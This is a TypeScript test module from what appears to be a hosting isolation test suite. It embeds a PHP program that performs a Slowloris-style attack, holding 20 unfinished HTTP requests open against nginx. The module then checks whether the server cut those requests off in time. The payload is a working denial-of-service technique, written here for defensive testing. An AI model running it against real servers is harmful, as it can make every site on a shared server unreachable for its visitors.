import { failed, refused, type SceneAttack, succeeded } from '#agent/features/isolation/attack.ts'
import { tryAsSite } from '#agent/kernel/sandbox/run.ts'

const COUNT = 20
/** The seconds for which requests stay unfinished; nginx closes such a request earlier. */
const WAIT_S = 20

/** A program that reads the site's name, and prints how many unfinished requests are open. */
export const UNFINISHED = `
$domain = trim(stream_get_contents(STDIN));
$open = [];
for ($at = 0; $at < ${COUNT}; $at++) {
  $socket = @stream_socket_client('tcp://127.0.0.1:80', $code, $text, 5);
  if ($socket === false) continue;
  fwrite($socket, "GET / HTTP/1.1\\r\\nHost: $domain\\r\\nX-Unfinished: ");
  stream_set_blocking($socket, false);
  $open[] = $socket;
}
if (!$open) exit('none');
for ($until = time() + ${WAIT_S}; $open && time() < $until; usleep(100000)) {
  foreach ($open as $at => $socket) {
    $read = @fread($socket, 1024);
    if ($read === false || ($read === '' && feof($socket))) unset($open[$at]);
  }
}
echo count($open);`

/** Attacks by requests that take nginx's connections from the visitors of all sites. */
export const VISITOR_ATTACKS = {
  'visitors.slow': {
    severity: 'high',
    title: 'Keep connections of nginx with unfinished requests',
    meaning: 'One site, or one visitor, makes all sites of the server unreachable.',
    async attempt({ host, attacker }) {
      const argv = [`/usr/bin/php${attacker.php}`, '-n', '-r', UNFINISHED]
      const options = { input: attacker.domain, timeout_ms: 60_000 }
      const { code, stdout } = await tryAsSite(host, attacker, argv, options)
      if (code !== 0 || !/^\d+$/.test(stdout)) return failed('nginx did not accept a connection')
      return stdout === '0'
        ? refused()
        : succeeded(`${stdout} unfinished requests were open after ${WAIT_S} seconds`)
    },
  },
} as const satisfies Record<string, SceneAttack>
